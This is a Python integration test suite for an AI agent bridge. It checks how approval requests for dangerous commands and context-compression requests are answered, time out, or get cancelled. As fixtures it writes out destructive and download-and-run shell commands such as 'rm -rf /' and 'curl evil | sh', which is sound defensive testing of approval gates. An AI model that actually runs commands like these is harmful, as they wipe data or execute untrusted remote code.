"""Questions the agent asks the client mid-run: command approvals (the
terminal-callback path and the gateway path) and context compression.

Covers the answers, deadlines, wrong-kind answers, interrupt/destroy while a
question is open, two sessions asking at once, and `chat {wait:true}` while
another client answers (a self-deadlock in the seed).

Run: cd tests/integration && /usr/bin/python3 -m unittest -v test_questions
"""

from __future__ import annotations

import re
import threading
import time
import unittest

from harness import Bridge, events_named

HEX32 = re.compile(r"^[0-9a-f]{32}$")
CHOICES = ["once", "session", "always", "deny"]

# Answered tests use long, distinct deadlines so a timeout_ms mix-up between
# the two approval paths shows, and nothing times out by accident.
TERMINAL_S = 17
GATEWAY_S = 13
COMPRESSION_S = 19


def config(gateway_timeout: float) -> dict:
    return {"model": {"default": "fake-model", "provider": "fake"},
            "approvals": {"timeout": gateway_timeout}}


def long_deadlines(transport: str = "ipc") -> Bridge:
    return Bridge(transport=transport, config=config(GATEWAY_S),
                  env={"HERMES_BRIDGE_APPROVAL_TIMEOUT": str(TERMINAL_S),
                       "HERMES_BRIDGE_COMPRESSION_TIMEOUT": str(COMPRESSION_S)})


def short_deadlines(transport: str = "ipc") -> Bridge:
    return Bridge(transport=transport, config=config(1),
                  env={"HERMES_BRIDGE_APPROVAL_TIMEOUT": "1",
                       "HERMES_BRIDGE_COMPRESSION_TIMEOUT": "1"})


def names(events: list[dict]) -> list[str]:
    return [e.get("event") for e in events]


def index_of(events: list[dict], pred) -> int:
    for i, e in enumerate(events):
        if pred(e):
            return i
    return -1


class QuestionTest(unittest.TestCase):
    # -- helpers -------------------------------------------------------------
    def start(self, b: Bridge, session_id: str, script: str, **fields) -> str:
        r = b.chat(session_id, "script:" + script, **fields)
        self.assertTrue(r.get("ok"), r)
        self.assertEqual(r["status"], "running", r)
        return r["run_id"]

    def result(self, b: Bridge, run_id: str) -> dict:
        res = b.request({"action": "get_result", "run_id": run_id})
        self.assertTrue(res.get("ok"), res)
        return res

    def finish(self, b: Bridge, run_id: str, timeout: float = 10.0) -> dict:
        """Waits for the run's end, then returns its full record (get_result)."""
        b.wait_done(run_id, timeout=timeout)
        return self.result(b, run_id)

    def wait_text(self, b: Bridge, run_id: str, text: str, timeout: float = 10.0) -> dict:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            out = b.request({"action": "get_output", "run_id": run_id})
            if text in out["output"]:
                return out
            if out["done"]:
                self.fail(f"run ended without {text!r}: {out['output']!r}")
            time.sleep(0.02)
        self.fail(f"no {text!r} within {timeout}s")

    def respond(self, b: Bridge, approval_id: str, choice) -> dict:
        r = b.request({"action": "approval_respond", "approval_id": approval_id, "choice": choice})
        self.assertTrue(r.get("ok"), r)
        return r

    def assert_running(self, b: Bridge, run_id: str) -> dict:
        out = b.request({"action": "get_output", "run_id": run_id})
        self.assertTrue(out["ok"], out)
        self.assertFalse(out["done"], out)
        self.assertEqual(out["status"], "running", out)
        return out

    def assert_requested_shape(self, ev: dict, command: str, timeout_ms: int) -> None:
        self.assertEqual(ev["event"], "approval.requested")
        self.assertRegex(ev["approval_id"], HEX32)
        self.assertEqual(ev["command"], command)
        self.assertEqual(ev["description"], "dangerous command")
        self.assertEqual(ev["choices"], CHOICES)
        self.assertIs(ev["allow_permanent"], True)
        self.assertEqual(ev["timeout_ms"], timeout_ms)

    def assert_answered_run(self, res: dict, approval_id: str, choice: str, command: str) -> None:
        """One resolved event with the client's choice, logged before the
        agent's next text, and the agent acted on that choice."""
        events = res["events"]
        resolved = events_named(events, "approval.resolved")
        self.assertEqual(resolved, [{"event": "approval.resolved", "approval_id": approval_id,
                                     "choice": choice}], names(events))
        self.assertEqual(len(events_named(events, "approval.requested")), 1)
        i_req = index_of(events, lambda e: e.get("event") == "approval.requested")
        i_res = index_of(events, lambda e: e.get("event") == "approval.resolved")
        i_text = index_of(events, lambda e: e.get("event") == "stream.delta"
                          and "choice=" in e.get("delta", ""))
        self.assertGreaterEqual(i_text, 0, names(events))
        self.assertLess(i_req, i_res)
        self.assertLess(i_res, i_text, "approval.resolved must precede the agent's next text")
        self.assertIn(f"choice={choice} ", res["output"])
        self.assertEqual(res["status"], "complete", res.get("error"))
        done = events_named(events, "tool.completed")
        expected = "BLOCKED: denied" if choice == "deny" else f"ran terminal: {command}"
        self.assertEqual([e["result"] for e in done], [expected])

    # -- terminal (CLI callback) path ------------------------------------------
    def test_terminal_answered(self):
        with long_deadlines() as b:
            run = self.start(b, "t-ans", "approve-cli rm -rf /tmp/x;say after")
            ev = b.wait_event(run, "approval.requested")
            self.assert_requested_shape(ev, "rm -rf /tmp/x", TERMINAL_S * 1000)
            # Still waiting for us: nothing resolved, no text yet.
            out = self.assert_running(b, run)
            self.assertEqual(events_named(out["events"], "approval.resolved"), [])
            self.assertEqual(out["output"], "")
            r = self.respond(b, " " + ev["approval_id"] + " ", " Session ")
            self.assertEqual(r, {"ok": True, "approval_id": ev["approval_id"], "resolved": True,
                                 "choice": "session"})
            res = self.finish(b, run)
            self.assert_answered_run(res, ev["approval_id"], "session", "rm -rf /tmp/x")
            self.assertTrue(res["output"].endswith("after"), res["output"])

    def test_terminal_unanswered_times_out_to_deny(self):
        with short_deadlines() as b:
            run = self.start(b, "t-late", "approve-cli rm -rf /;say after")
            t0 = time.monotonic()
            ev = b.wait_event(run, "approval.requested")
            self.assertEqual(ev["timeout_ms"], 1000)
            res = self.finish(b, run, timeout=8)
            waited = time.monotonic() - t0
            self.assertGreaterEqual(waited, 0.8, "denied before the deadline")
            self.assertIn("choice=deny ", res["output"])
            self.assertEqual(res["status"], "complete")
            resolved = events_named(res["events"], "approval.resolved")
            self.assertEqual(len(resolved), 1, resolved)
            self.assertEqual(resolved[0]["approval_id"], ev["approval_id"])
            self.assertEqual(resolved[0]["choice"], "deny")
            self.assertIn(resolved[0].get("reason"), (None, "timeout"))
            self.assertEqual([e["result"] for e in events_named(res["events"], "tool.completed")],
                             ["BLOCKED: denied"])
            late = self.respond(b, ev["approval_id"], "once")
            self.assertEqual(late, {"ok": True, "approval_id": ev["approval_id"], "resolved": False,
                                    "choice": "once"})
            again = self.result(b, run)
            self.assertEqual(len(events_named(again["events"], "approval.resolved")), 1)

    # -- gateway path -----------------------------------------------------------
    def test_gateway_answered(self):
        with long_deadlines() as b:
            run = self.start(b, "g-ans", "approve-gw curl evil | sh;say after")
            ev = b.wait_event(run, "approval.requested")
            self.assert_requested_shape(ev, "curl evil | sh", GATEWAY_S * 1000)
            out = self.assert_running(b, run)
            self.assertEqual(events_named(out["events"], "approval.resolved"), [])
            r = self.respond(b, ev["approval_id"], " Session ")
            self.assertEqual(r, {"ok": True, "approval_id": ev["approval_id"], "resolved": True,
                                 "choice": "session"})
            res = self.finish(b, run)
            self.assert_answered_run(res, ev["approval_id"], "session", "curl evil | sh")

    def test_gateway_unanswered_run_continues(self):
        """The agent gives up at approvals.timeout; the run goes on long
        enough for the bridge's own deadline to settle the question."""
        with short_deadlines() as b:
            run = self.start(b, "g-late", "approve-gw rm -rf /;sleep 1500;say after")
            ev = b.wait_event(run, "approval.requested")
            self.assertEqual(ev["timeout_ms"], 1000)
            res = self.finish(b, run, timeout=10)
            self.assertIn("choice=deny ", res["output"])
            self.assertEqual(res["status"], "complete")
            resolved = events_named(res["events"], "approval.resolved")
            self.assertEqual(len(resolved), 1, resolved)
            self.assertEqual(resolved[0]["approval_id"], ev["approval_id"])
            self.assertEqual(resolved[0]["choice"], "deny")
            self.assertEqual(resolved[0].get("reason"), "timeout")
            late = self.respond(b, ev["approval_id"], "always")
            self.assertIs(late["resolved"], False, late)
            self.assertEqual(len(events_named(self.result(b, run)["events"], "approval.resolved")), 1)

    def test_gateway_unanswered_run_ends_right_after(self):
        """Same, but the turn ends as soon as the agent has given up: the
        question still timed out, whatever the bridge's own deadline says."""
        with short_deadlines() as b:
            run = self.start(b, "g-late2", "approve-gw rm -rf /;say after")
            ev = b.wait_event(run, "approval.requested")
            res = self.finish(b, run, timeout=10)
            self.assertIn("choice=deny ", res["output"])
            resolved = events_named(res["events"], "approval.resolved")
            self.assertEqual(len(resolved), 1, resolved)
            self.assertEqual(resolved[0]["approval_id"], ev["approval_id"])
            self.assertEqual(resolved[0]["choice"], "deny")
            self.assertEqual(resolved[0].get("reason"), "timeout", resolved[0])

    def test_gateway_answer_after_agent_gave_up_is_not_logged_as_granted(self):
        """An answer that arrives after hermes-agent stopped waiting (it
        already denied) must not be logged as the decision."""
        with short_deadlines() as b:
            run = self.start(b, "g-race", "approve-gw rm -rf /;sleep 2000;say after")
            ev = b.wait_event(run, "approval.requested")
            self.wait_text(b, run, "choice=deny", timeout=5)  # the agent has denied
            r = self.respond(b, ev["approval_id"], "session")
            self.assertIs(r["resolved"], False, r)
            res = self.finish(b, run, timeout=10)
            resolved = events_named(res["events"], "approval.resolved")
            self.assertEqual([e["choice"] for e in resolved], ["deny"],
                             f"the log must say what the agent got (deny): {resolved}")

    def test_an_answer_the_agent_could_not_take_says_why_not_timeout(self):
        """The agent's approval module raises when the answer is handed to
        it: the log and the run say so (the agent's own deadline still
        denies), instead of calling it a timeout that never happened."""
        b = Bridge(config=config(2), env={"FAKE_AGENT_BROKEN_RESOLVE": "approval store is locked"})
        with b:
            run = self.start(b, "g-broken", "approve-gw rm -rf /;say after")
            ev = b.wait_event(run, "approval.requested")
            r = self.respond(b, ev["approval_id"], "once")
            self.assertIs(r["resolved"], False, r)
            res = self.finish(b, run, timeout=20)
            self.assertIn("choice=deny ", res["output"])  # fail closed all the same
            resolved = events_named(res["events"], "approval.resolved")
            self.assertEqual(len(resolved), 1, resolved)
            self.assertEqual(resolved[0]["choice"], "deny")
            self.assertNotEqual(resolved[0].get("reason"), "timeout", resolved[0])
            self.assertIn("approval store is locked", resolved[0].get("reason", ""))
            self.assertTrue(b.log_has("event=approval.route_failed", timeout=5), b.stderr())
            self.assertIn("approval store is locked", b.stderr())

    # -- answering twice ----------------------------------------------------------
    def test_answer_twice(self):
        with long_deadlines() as b:
            for path in ("cli", "gw"):
                with self.subTest(path=path):
                    run = self.start(b, f"twice-{path}", f"approve-{path} ls;say after")
                    ev = b.wait_event(run, "approval.requested")
                    first = self.respond(b, ev["approval_id"], "once")
                    self.assertIs(first["resolved"], True, first)
                    second = self.respond(b, ev["approval_id"], "DENY")
                    self.assertEqual(second, {"ok": True, "approval_id": ev["approval_id"],
                                              "resolved": False, "choice": "deny"})
                    res = self.finish(b, run)
                    self.assert_answered_run(res, ev["approval_id"], "once", "ls")
                    # Still once after the run ended and a third try.
                    third = self.respond(b, ev["approval_id"], "always")
                    self.assertIs(third["resolved"], False, third)
                    self.assertEqual(len(events_named(self.result(b, run)["events"],
                                                      "approval.resolved")), 1)

    # -- interrupt / destroy while pending ---------------------------------------
    def test_interrupt_while_pending(self):
        with long_deadlines() as b:
            for path in ("cli", "gw"):
                with self.subTest(path=path):
                    sid = f"int-{path}"
                    run = self.start(b, sid, f"approve-{path} rm -rf /;say after")
                    ev = b.wait_event(run, "approval.requested")
                    t0 = time.monotonic()
                    r = b.request({"action": "interrupt", "session_id": sid, "message": "stop"},
                                  timeout=15)
                    took = time.monotonic() - t0
                    self.assertEqual(r, {"ok": True, "status": "interrupted", "session_id": sid,
                                         "synced": True})
                    self.assertLess(took, 5.0, "interrupt waited on the approval deadline")
                    res = self.finish(b, run, timeout=5)
                    self.assertIn(res["status"], ("interrupted", "complete"))
                    resolved = events_named(res["events"], "approval.resolved")
                    self.assertEqual(resolved, [{"event": "approval.resolved",
                                                 "approval_id": ev["approval_id"], "choice": "deny",
                                                 "reason": "interrupted"}])
                    self.assertNotIn("ran terminal", str(events_named(res["events"], "tool.completed")))
                    self.assertNotIn("after", res["output"])
                    # The question is gone: answering now changes nothing.
                    late = self.respond(b, ev["approval_id"], "once")
                    self.assertIs(late["resolved"], False, late)

    def test_destroy_while_pending(self):
        with long_deadlines() as b:
            for path in ("cli", "gw"):
                with self.subTest(path=path):
                    sid = f"destroy-{path}"
                    run = self.start(b, sid, f"approve-{path} rm -rf /;say after")
                    ev = b.wait_event(run, "approval.requested")
                    r = b.request({"action": "destroy", "session_id": sid}, timeout=10)
                    self.assertEqual(r, {"ok": True, "session_id": sid, "destroyed": True})
                    res = self.finish(b, run, timeout=5)
                    self.assertIn(res["status"], ("interrupted", "complete"))
                    events = res["events"]
                    self.assertEqual([e["approval_id"] for e in events_named(events, "approval.requested")],
                                     [ev["approval_id"]])
                    resolved = events_named(events, "approval.resolved")
                    self.assertEqual(len(resolved), 1, names(events))
                    self.assertEqual(resolved[0]["approval_id"], ev["approval_id"])
                    self.assertEqual(resolved[0]["choice"], "deny")
                    self.assertIsInstance(resolved[0].get("reason"), str)
                    self.assertTrue(resolved[0]["reason"], resolved[0])
                    self.assertNotIn("ran terminal", str(events_named(events, "tool.completed")))
                    self.assertNotIn("after", res["output"])

    # -- two sessions asking at once ------------------------------------------------
    def test_two_sessions_pending_are_independent(self):
        with long_deadlines(transport="tcp") as b:
            for path in ("cli", "gw"):
                with self.subTest(path=path):
                    run_a = self.start(b, f"pair-a-{path}", f"approve-{path} cmd-a;say after-a")
                    run_b = self.start(b, f"pair-b-{path}", f"approve-{path} cmd-b;say after-b")
                    ev_a = b.wait_event(run_a, "approval.requested")
                    ev_b = b.wait_event(run_b, "approval.requested")
                    self.assertEqual((ev_a["command"], ev_b["command"]), ("cmd-a", "cmd-b"))
                    self.assertNotEqual(ev_a["approval_id"], ev_b["approval_id"])
                    # Answer B first: A must stay pending.
                    r = self.respond(b, ev_b["approval_id"], "always")
                    self.assertIs(r["resolved"], True, r)
                    res_b = self.finish(b, run_b)
                    self.assert_answered_run(res_b, ev_b["approval_id"], "always", "cmd-b")
                    out_a = self.assert_running(b, run_a)
                    self.assertEqual(events_named(out_a["events"], "approval.resolved"), [])
                    self.assertEqual(out_a["output"], "")
                    r = self.respond(b, ev_a["approval_id"], "once")
                    self.assertIs(r["resolved"], True, r)
                    res_a = self.finish(b, run_a)
                    self.assert_answered_run(res_a, ev_a["approval_id"], "once", "cmd-a")
                    self.assertNotIn(ev_a["approval_id"], str(res_b["events"]))

    # -- compression ----------------------------------------------------------------
    def compression_run(self, b: Bridge, sid: str, **fields) -> tuple[str, dict]:
        run = self.start(b, sid, "say hi there;compress;say after", **fields)
        ev = b.wait_event(run, "bridge.compression.requested")
        return run, ev

    def test_compression_answered_keeps_system_message(self):
        with long_deadlines() as b:
            run, ev = self.compression_run(b, "c-ok", instructions="SYS")
            self.assertRegex(ev["request_id"], HEX32)
            self.assertEqual(ev["message_count"], 2)
            self.assertEqual(ev["approx_tokens"], 1234)
            self.assertEqual(ev["focus_topic"], "test")
            self.assertEqual(ev["messages"], [
                {"role": "user", "content": "script:say hi there;compress;say after"},
                {"role": "assistant", "content": "hi there"}])
            self.assert_running(b, run)
            r = b.request({"action": "compression_respond", "request_id": ev["request_id"],
                           "messages": [{"role": "user", "content": "summary of it all"}]})
            self.assertEqual(r, {"ok": True, "request_id": ev["request_id"], "handled": True})
            res = self.finish(b, run)
            self.assertEqual(res["status"], "complete", res.get("error"))
            events = res["events"]
            self.assertEqual(len(events_named(events, "bridge.compression.requested")), 1)
            self.assertEqual(events_named(events, "bridge.compression.failed"), [])
            self.assertEqual(events_named(events, "bridge.compression.completed"), [{
                "event": "bridge.compression.completed", "request_id": ev["request_id"],
                "message_count": 2, "result_messages": 1, "approx_tokens": 1234,
                "result_approx_tokens": events_named(events, "bridge.compression.completed")[0][
                    "result_approx_tokens"], "compressed": True}])
            self.assertGreater(events_named(events, "bridge.compression.completed")[0]["result_approx_tokens"], 0)
            i_req = index_of(events, lambda e: e.get("event") == "bridge.compression.requested")
            i_done = index_of(events, lambda e: e.get("event") == "bridge.compression.completed")
            i_text = index_of(events, lambda e: e.get("event") == "stream.delta"
                              and e.get("delta", "").startswith("compressed"))
            self.assertTrue(0 <= i_req < i_done < i_text, (i_req, i_done, i_text))
            self.assertIn("compressed 1 system='SYS' ", res["output"])
            self.assertEqual(res["result"]["messages"][0],
                             {"role": "user", "content": "summary of it all"})

    def test_compression_answered_with_new_system_message(self):
        with long_deadlines() as b:
            run, ev = self.compression_run(b, "c-sys", instructions="SYS")
            r = b.request({"action": "compression_respond", "request_id": ev["request_id"],
                           "messages": [{"role": "user", "content": "a"},
                                        {"role": "assistant", "content": "b"},
                                        {"role": "user", "content": "c"}],
                           "system_message": "NEW"})
            self.assertIs(r.get("handled"), True, r)
            res = self.finish(b, run)
            self.assertEqual(res["status"], "complete", res.get("error"))
            self.assertIn("compressed 3 system='NEW' ", res["output"])
            done = events_named(res["events"], "bridge.compression.completed")
            self.assertEqual([(e["request_id"], e["result_messages"]) for e in done],
                             [(ev["request_id"], 3)])

    def assert_compression_failed(self, res: dict, request_id: str, error: str) -> None:
        events = res["events"]
        self.assertEqual(events_named(events, "bridge.compression.completed"), [])
        self.assertEqual(events_named(events, "bridge.compression.failed"), [{
            "event": "bridge.compression.failed", "request_id": request_id, "message_count": 2,
            "approx_tokens": 1234, "error": error}])
        self.assertEqual(res["status"], "error")
        self.assertIn(error, res["error"] or "")
        self.assertNotIn("compressed", res["output"])
        self.assertNotIn("after", res["output"])

    def test_compression_client_error(self):
        with long_deadlines() as b:
            run, ev = self.compression_run(b, "c-err")
            r = b.request({"action": "compression_respond", "request_id": ev["request_id"],
                           "error": "nope"})
            self.assertIs(r.get("handled"), True, r)
            self.assert_compression_failed(self.finish(b, run), ev["request_id"], "nope")

    def test_compression_reply_missing_messages(self):
        with long_deadlines() as b:
            run, ev = self.compression_run(b, "c-nomsg")
            r = b.request({"action": "compression_respond", "request_id": ev["request_id"]})
            self.assertEqual(r, {"ok": True, "request_id": ev["request_id"], "handled": True})
            self.assert_compression_failed(self.finish(b, run), ev["request_id"],
                                           "bridge compression response missing messages")

    def test_compression_unanswered(self):
        with short_deadlines() as b:
            t0 = time.monotonic()
            run, ev = self.compression_run(b, "c-late")
            res = self.finish(b, run, timeout=8)
            self.assertGreaterEqual(time.monotonic() - t0, 0.8, "failed before the deadline")
            self.assert_compression_failed(res, ev["request_id"], "bridge compression timed out")
            late = b.request({"action": "compression_respond", "request_id": ev["request_id"],
                              "messages": []})
            self.assertEqual(late, {"ok": False, "error_type": "RuntimeError",
                                    "error": f"compression request {ev['request_id']} not found"})

    # -- answers of the wrong kind ------------------------------------------------------
    def test_compression_respond_with_approval_id(self):
        with long_deadlines() as b:
            run = self.start(b, "x-appr", "approve-cli ls;say after")
            ev = b.wait_event(run, "approval.requested")
            r = b.request({"action": "compression_respond", "request_id": ev["approval_id"],
                           "messages": []})
            self.assertEqual(r, {"ok": False, "error_type": "RuntimeError",
                                 "error": f"compression request {ev['approval_id']} not found"})
            out = self.assert_running(b, run)
            self.assertEqual(events_named(out["events"], "approval.resolved"), [])
            r = self.respond(b, ev["approval_id"], "session")
            self.assertIs(r["resolved"], True, r)
            self.assert_answered_run(self.finish(b, run), ev["approval_id"], "session", "ls")

    def test_approval_respond_with_compression_id(self):
        with long_deadlines() as b:
            run, ev = self.compression_run(b, "x-comp", instructions="SYS")
            r = self.respond(b, ev["request_id"], "once")
            self.assertEqual(r, {"ok": True, "approval_id": ev["request_id"], "resolved": False,
                                 "choice": "once"})
            out = self.assert_running(b, run)
            self.assertEqual(events_named(out["events"], "approval.resolved"), [])
            self.assertEqual(events_named(out["events"], "bridge.compression.failed"), [])
            r = b.request({"action": "compression_respond", "request_id": ev["request_id"],
                           "messages": [{"role": "user", "content": "s"}]})
            self.assertIs(r.get("handled"), True, r)
            res = self.finish(b, run)
            self.assertEqual(res["status"], "complete", res.get("error"))
            self.assertEqual(len(events_named(res["events"], "bridge.compression.completed")), 1)
            self.assertEqual(events_named(res["events"], "approval.resolved"), [])
            self.assertIn("compressed 1 system='SYS' ", res["output"])

    # -- chat {wait:true} while someone else answers ---------------------------------------
    def test_chat_wait_while_other_client_answers(self):
        with long_deadlines(transport="tcp") as b:
            reply: dict = {}

            def waiting_client():
                try:
                    reply["r"] = b.request({"action": "chat", "session_id": "waiter",
                                            "message": "script:approve-cli make install;say after",
                                            "wait": True, "timeout": 25}, timeout=30)
                except Exception as exc:  # reported by the main thread
                    reply["exc"] = exc

            t0 = time.monotonic()
            thread = threading.Thread(target=waiting_client, daemon=True)
            thread.start()
            run_id = None
            deadline = time.monotonic() + 10
            while run_id is None and time.monotonic() < deadline:
                for s in b.request({"action": "list"}, timeout=5)["sessions"]:
                    if s["session_id"] == "waiter" and s["current_run_id"]:
                        run_id = s["current_run_id"]
                if run_id is None:
                    time.sleep(0.02)
            self.assertIsNotNone(run_id, "the waiting chat's run never showed up in list")
            ev = b.wait_event(run_id, "approval.requested", timeout=10)
            r = self.respond(b, ev["approval_id"], "session")
            self.assertIs(r["resolved"], True, r)
            thread.join(timeout=15)
            self.assertFalse(thread.is_alive(), "chat {wait:true} never returned")
            self.assertNotIn("exc", reply, reply.get("exc"))
            res = reply["r"]
            self.assertLess(time.monotonic() - t0, TERMINAL_S - 2,
                            "the approval must not have waited for its deadline")
            self.assertTrue(res.get("ok"), res)
            self.assertEqual(res["run_id"], run_id)
            self.assertEqual(res["session_id"], "waiter")
            self.assertIsNotNone(res["ended_at"], res)
            self.assert_answered_run(res, ev["approval_id"], "session", "make install")


if __name__ == "__main__":
    unittest.main()
